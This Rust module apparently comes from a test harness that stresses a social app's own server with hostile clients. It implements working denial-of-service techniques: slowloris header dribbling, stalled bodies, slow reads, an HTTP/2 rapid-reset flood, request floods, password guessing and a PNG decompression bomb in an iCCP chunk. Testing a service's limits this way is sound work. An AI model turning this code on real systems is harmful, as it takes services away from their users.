//! What hostile clients do, each until it is stopped.

use std::{io::Write, sync::Arc, time::Duration};

use base64::{Engine, engine::general_purpose::STANDARD};
use flate2::{Compression, Crc, write::ZlibEncoder};
use serde_json::json;
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::TcpStream,
    task::JoinSet,
    time::sleep,
};

use super::visitor::Visitor;

/// A picture of one pixel.
const PIXEL: &str = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";
/// What a bomb's colour profile inflates to.
const BOMB: usize = 200 << 20;
/// Connections of one client, more than it is granted.
const CONNECTIONS: usize = 300;

/// A way of taking the service away from others.
#[derive(Debug, Clone, Copy)]
pub enum Attack {
    /// Asks for the app on hundreds of connections, and reads nothing.
    LeaveAnswersUnread,
    /// Begins large sign-ups and sends no end.
    StallBodies,
    /// Uploads pictures that inflate to hundreds of mebibytes.
    UploadBombs,
    /// Opens exports and reads them a byte at a time.
    ReadExportsSlowly,
    FloodComments,
    /// Tries passwords of one of the pair.
    GuessPasswords,
    /// Sends heads that never end, on hundreds of connections.
    DribbleHeaders,
    /// Opens and resets HTTP/2 streams as fast as it can.
    ResetStreams,
    FloodSignUps,
    /// Discovers and searches as fast as it can.
    FloodReads,
}

impl Attack {
    /// Does it until dropped; `bomb` is what to upload.
    pub async fn go_on(self, me: Visitor, bomb: Arc<str>) {
        let mut held = JoinSet::new();
        for _ in 0..self.at_once() {
            let (me, bomb) = (me.clone(), Arc::clone(&bomb));
            held.spawn(async move {
                loop {
                    let lasted = self.once(&me, &bomb).await;
                    if lasted.is_none() {
                        // Refused: not at the full speed of this machine, which the server shares.
                        sleep(Duration::from_millis(20)).await;
                    }
                }
            });
        }
        while held.join_next().await.is_some() {}
    }

    fn at_once(self) -> usize {
        match self {
            Self::LeaveAnswersUnread | Self::DribbleHeaders => CONNECTIONS,
            Self::StallBodies => 8,
            Self::UploadBombs | Self::FloodComments | Self::FloodReads | Self::GuessPasswords => 4,
            Self::ReadExportsSlowly | Self::ResetStreams | Self::FloodSignUps => 2,
        }
    }

    async fn once(self, me: &Visitor, bomb: &str) -> Option<()> {
        match self {
            Self::LeaveAnswersUnread => leave_unread(me.connect().await?).await,
            Self::StallBodies => stall(me).await,
            Self::UploadBombs => answered(me.ask("POST", "/api/photos/upload", bomb).await),
            Self::ReadExportsSlowly => read_slowly(me).await,
            Self::FloodComments => comment(me).await,
            Self::GuessPasswords => {
                let guess = json!({ "email": "ann-of-the-pair@example.com", "password": "a guess" });
                answered(me.ask("POST", "/api/auth/login", &guess.to_string()).await)
            }
            Self::DribbleHeaders => dribble(me.connect().await?).await,
            Self::ResetStreams => reset_streams(me.connect().await?).await,
            Self::FloodSignUps => answered(me.ask("POST", "/api/auth/register", &Visitor::registration("nobody-in-particular")).await),
            Self::FloodReads => {
                answered(me.ask("GET", "/api/users/discover", "").await)?;
                answered(me.ask("GET", "/api/messages/search?q=he", "").await)
            }
        }
    }
}

/// Nothing for a refusal by a limit.
fn answered(answer: Option<(u16, serde_json::Value)>) -> Option<()> {
    answer.filter(|(status, _)| *status != 429 && *status != 503).map(drop)
}

async fn leave_unread(mut stream: TcpStream) -> Option<()> {
    loop {
        stream.write_all(b"GET / HTTP/1.1\r\nhost: kindred\r\n\r\n").await.ok()?;
    }
}

async fn stall(me: &Visitor) -> Option<()> {
    let mut stream = me.connect().await?;
    let head = format!("{}content-length: {}\r\n\r\n", me.head("POST", "/api/auth/register"), 39 << 20);
    stream.write_all(head.as_bytes()).await.ok()?;
    stream.write_all(&vec![b' '; 1 << 20]).await.ok()?;
    // Until the server has had enough.
    stream.read(&mut [0; 1]).await.ok().map(drop)
}

async fn read_slowly(me: &Visitor) -> Option<()> {
    let mut stream = me.connect().await?;
    stream.write_all(format!("{}\r\n", me.head("GET", "/api/users/me/export")).as_bytes()).await.ok()?;
    while stream.read(&mut [0; 1]).await.ok()? > 0 {
        sleep(Duration::from_secs(1)).await;
    }
    None
}

async fn comment(me: &Visitor) -> Option<()> {
    let (_, made) = me.ask("POST", "/api/moments/create", &json!({ "content": "Look", "audience": "public" }).to_string()).await?;
    let path = format!("/api/comments/moment/{}", made["data"]["id"].as_str()?);
    let comment = json!({ "content": "x".repeat(500) }).to_string();
    loop {
        if answered(me.ask("POST", &path, &comment).await).is_none() {
            sleep(Duration::from_millis(10)).await;
        }
    }
}

async fn dribble(mut stream: TcpStream) -> Option<()> {
    stream.write_all(b"GET / HTTP/1.1\r\nhost: kindred\r\n").await.ok()?;
    loop {
        stream.write_all(b"x-more: of this\r\n").await.ok()?;
        sleep(Duration::from_secs(1)).await;
    }
}

async fn reset_streams(mut stream: TcpStream) -> Option<()> {
    stream.write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0").await.ok()?;
    // GET / of http://kindred
    let head: &[u8] = b"\x82\x84\x86\x41\x07kindred";
    for number in (1u32..).step_by(2) {
        let id = number.to_be_bytes();
        let begin = [&[0, 0, u8::try_from(head.len()).ok()?, 1, 5], &id[..], head].concat();
        let reset = [&[0, 0, 4, 3, 0], &id[..], &[0, 0, 0, 8]].concat();
        stream.write_all(&[begin, reset].concat()).await.ok()?;
    }
    None
}

/// The body of an upload of a picture whose colour profile is a bomb.
pub fn upload_of_a_bomb() -> Arc<str> {
    let pixel = STANDARD.decode(PIXEL).expect("a picture");
    let mut profile = ZlibEncoder::new(b"profile\0\0".to_vec(), Compression::fast());
    let zeros = vec![0; 1 << 20];
    for _ in 0..BOMB >> 20 {
        profile.write_all(&zeros).expect("memory");
    }
    let content = [b"iCCP".to_vec(), profile.finish().expect("memory")].concat();
    let mut sum = Crc::new();
    sum.update(&content);
    let length = u32::try_from(content.len() - 4).expect("a small chunk").to_be_bytes();
    // After the signature and IHDR.
    let bomb = [&pixel[..33], &length, &content, &sum.sum().to_be_bytes(), &pixel[33..]].concat();
    json!({ "photo": format!("data:image/png;base64,{}", STANDARD.encode(bomb)) }).to_string().into()
}
